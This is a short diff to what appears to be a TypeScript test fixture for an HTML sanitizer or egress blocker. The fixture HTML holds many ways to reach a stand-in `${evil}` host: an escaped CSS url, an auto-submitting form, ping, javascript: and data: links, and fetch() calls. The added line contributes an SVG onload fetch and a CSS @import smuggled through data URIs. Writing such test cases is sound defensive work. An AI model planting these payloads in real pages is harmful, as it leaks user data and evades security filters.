@@ -41,6 +41,7 @@ h1{background:u\\72l(${evil}/escaped)} h2{background:image-set("${evil}/set" 1x)
 <form action="${evil}/form"><input name="a" autofocus onfocus="this.form.submit()"><button>Send</button></form>
 <a id="top" href="${evil}/top" target="_top" ping="${evil}/ping">Leave</a> <a id="js" href="javascript:top.location='${evil}/js'">Run</a>
 <a id="html" href="data:text/html,<script>fetch('${evil}/data')</script>" target="_blank">Open</a> <img src="drawing.svg" alt="drawing">
+<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='fetch(%22${evil}/inline%22)'%3E%3Cimage href='${evil}/inline'/%3E%3C/svg%3E"><p style="background:url(data:text/css,@import%20%22${evil}/data-css%22)">x</p>
 <a id="part" data-part="TRICK-1">TRICK-1</a></body></html>`;
 
 const drawing = (evil: string) =>
